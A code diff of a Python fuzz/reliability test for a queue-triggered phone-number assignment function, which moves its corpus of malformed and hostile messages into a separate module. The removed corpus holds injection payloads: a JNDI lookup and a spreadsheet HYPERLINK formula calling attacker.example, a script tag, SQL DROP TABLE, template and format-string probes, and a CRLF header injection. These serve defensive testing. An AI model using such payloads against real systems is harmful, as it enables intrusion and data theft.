@@ -8,7 +8,7 @@ from collections import Counter
 from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from random import Random
-from typing import Any, Final
+from typing import Final
 
 import hypothesis
 from azure.functions.meta import Datum
@@ -20,96 +20,14 @@ from assign_number import submission
 from assign_number.request import Envelope
 from local.host.queue_message import trigger_metadata
 from teams_numbers.log import EVENTS as LOG_EVENTS
-from tests.reliability.targets import Target, at_least, none
+from tests.reliability.hostile_corpus import GOOD, OTHERS, corpus, mangled, sendable
+from tests.reliability.targets import Target, at_least, at_most, none
 from tests.reliability.world import EVENTS, OPERATIONS, POISON, REQUESTS, LogTap, World
 
-_USER: Final = "6f0b2f8c-90f5-4a0e-9c39-1f0a3f8b6d21"
-_GOOD: Final = {"telephoneNumber": "+12065550110", "assignmentTargetId": _USER, "numberType": "callingPlan"}
 #: Of all messages, those that hypothesis makes; the others are the corpus and what becomes of it when it is mangled.
 _BY_HYPOTHESIS: Final = 0.1
-_MOST_BYTES: Final = 64 * 1024
-#: What the queue service cannot carry, so that no sender can send it: characters that XML has no word for.
-_NO_XML: Final = re.compile(r"[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
 #: What may stand in a log line's values: one line of printable text without markup.
 _SAFE: Final = re.compile(r"[^\x00-\x1f\x7f-\x9f<>\u2028\u2029\u202a-\u202e\ud800-\udfff]*")
-
-
-def corpus() -> list[str]:
-    """Return messages that have broken other programs, and some good ones to mangle."""
-    good = json.dumps(_GOOD)
-    wrap = base64.b64encode
-    texts = [
-        good,
-        wrap(good.encode()).decode(),
-        wrap(wrap(good.encode())).decode(),
-        "\ufeff" + good,
-        wrap(b"\xef\xbb\xbf" + good.encode()).decode(),
-        *(wrap(good.encode(code)).decode() for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32")),
-        "",
-        " ",
-        "null",
-        "[]",
-        '""',
-        "{}",
-        "NaN",
-        "0",
-        "-" * 1000,
-        "[" * 30_000,
-        '{"a":' * 10_000,
-        '{"context":' + '{"a":' * 5_000 + "1" + "}" * 5_000 + "}",
-        "9" * 60_000,
-        wrap(b"[" * 40_000).decode(),
-        wrap(bytes(range(256))).decode(),
-        "<html><script>alert(1)</script></html>",
-        '=HYPERLINK("http://attacker.example","x")',
-        "${jndi:ldap://attacker.example/a}",
-        "'; DROP TABLE users; --",
-        "{{7*7}}",
-        "%s%s%n",
-        "\r\nSet-Cookie: a=b",
-        good[:-1],
-        good + good,
-        good.replace("+1206", "\u202e+1206"),
-        "x" * _MOST_BYTES,
-    ]
-    values: list[Any] = [
-        None,
-        True,
-        0,
-        -1,
-        1e308,
-        "",
-        "\x00",
-        "\n",
-        "\ud800",
-        "\udfff\ud800",
-        "<b>",
-        "=1+1",
-        "A" * 5000,
-        [],
-        {},
-        [[]],
-        {"a": {}},
-    ]
-    texts += [json.dumps(_GOOD | {name: value}) for name in (*_GOOD, *_OTHERS) for value in values]
-    texts += [good[:-1] + f', "{name}": {value}}}' for name in (*_GOOD, *_OTHERS) for value in _RAW]
-    texts += [json.dumps(_GOOD | {"context": {"note": "x" * size}}) for size in (8_000, 8_190, 8_200, 60_000)]
-    texts += [
-        json.dumps({**_GOOD, key: "x"}) for key in ("__proto__", "constructor", "\u0000", "telephoneNumber ", "é")
-    ]
-    return [text for text in map(_sendable, texts) if text is not None]
-
-
-#: Fields that a good message has not, or that the host itself uses.
-_OTHERS: Final = (
-    *("requestId", "assignmentCategory", "locationId", "dryRun", "context", "delivery", "unknown"),
-    *("id", "dequeueCount", "insertionTime", "expirationTime", "nextVisibleTime", "popReceipt", "queueTrigger"),
-)
-#: Values that a JSON library does not write.
-_RAW: Final = (
-    *("NaN", "Infinity", "-Infinity", "1e999", "9" * 400, "9" * 5000, '"\\ud800"', "-0", "1E400", "[", "}", "\\u0022"),
-    *('"\\u0000"', "[" * 2000 + "]" * 2000, '{"a":1,"a":2}', "0x1", "'x'", '"\\u2028"'),
-)
 
 
 @dataclass(slots=True)
@@ -141,27 +59,28 @@ def run(seed: int, count: int) -> Found:
     known = corpus()
     rng = Random(seed)  # noqa: S311 - a simulation
     with LogTap(stand.note, logging.DEBUG):
-        for text in known[:count]:
-            stand.deliver(text)
+        for message in known[:count]:
+            stand.deliver(message)
         generated = int(count * _BY_HYPOTHESIS)
         if generated:
             _by_hypothesis(stand, seed, generated)
         while stand.found.messages < count:
-            if (mangled := _sendable(_mangled(rng, known))) is not None:
-                stand.deliver(mangled)
+            if (text := sendable(mangled(rng, known))) is not None:
+                stand.deliver(text)
     return stand.found
 
 
-def targets(found: Found) -> list[Target]:
+def targets(found: Found, count: int) -> list[Target]:
     """Return the figures."""
     part = "hostile messages:"
     return [
-        at_least(f"{part} delivered", found.messages, found.messages),
+        at_least(f"{part} delivered", found.messages, count),
         none(f"{part} unhandled exceptions", found.unhandled.total()),
         none(f"{part} neither a request nor exactly one rejection", len(found.neither)),
         none(f"{part} log lines that are no JSON or hold something unescaped", len(found.unsafe)),
         at_least(f"{part} rejected, each with one event and the text set aside unchanged", found.rejected, 1),
         at_least(f"{part} taken for requests", found.requests, 1),
+        at_most(f"{part} refused by the host's own decoder, which sets them aside", found.by_host, count / 20),
     ]
 
 
@@ -239,8 +158,8 @@ def _by_hypothesis(stand: _Stand, seed: int, count: int) -> None:
         lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=20), inner, max_size=4),
         max_leaves=12,
     )
-    names = st.sampled_from([*_GOOD, *_OTHERS]) | st.text(max_size=20)
-    changed = st.dictionaries(names, anything, max_size=4).map(lambda fields: json.dumps(_GOOD | fields))
+    names = st.sampled_from([*GOOD, *OTHERS]) | st.text(max_size=20)
+    changed = st.dictionaries(names, anything, max_size=4).map(lambda fields: json.dumps(GOOD | fields))
     texts = st.text(max_size=200) | anything.map(json.dumps) | changed
     coded = st.tuples(texts, st.sampled_from(["utf-8", "utf-16", "utf-32"])).map(
         lambda pair: base64.b64encode(pair[0].encode(pair[1], "surrogatepass")).decode()
@@ -253,27 +172,7 @@ def _by_hypothesis(stand: _Stand, seed: int, count: int) -> None:
     )
     @hypothesis.given(texts | coded | noise)
     def each(text: str) -> None:
-        sendable = _sendable(text)
-        if sendable is not None:
-            stand.deliver(sendable)
+        if (message := sendable(text)) is not None:
+            stand.deliver(message)
 
     each()
-
-
-def _mangled(rng: Random, known: list[str]) -> str:
-    """Return a message of the corpus with some of it cut, doubled, exchanged or replaced."""
-    text = rng.choice(known)
-    for _ in range(rng.randint(1, 4)):
-        start = rng.randrange(len(text) + 1)
-        end = min(len(text), start + rng.choice([0, 1, 1, 3, 20]))
-        piece = rng.choice(
-            ["", "\\", '"', "{", "}", "[", ",", ":", "\u0000", "\u202e", "é", "\ud83d", text[start:end] * 2]
-        )
-        text = text[:start] + piece + text[end:]
-    return base64.b64encode(text.encode("utf-8", "surrogatepass")).decode() if rng.random() < 0.2 else text
-
-
-def _sendable(text: str) -> str | None:
-    """Return the text as far as the queue service carries it; None where it is too long."""
-    text = _NO_XML.sub("", text)
-    return text if len(text.encode()) <= _MOST_BYTES else None
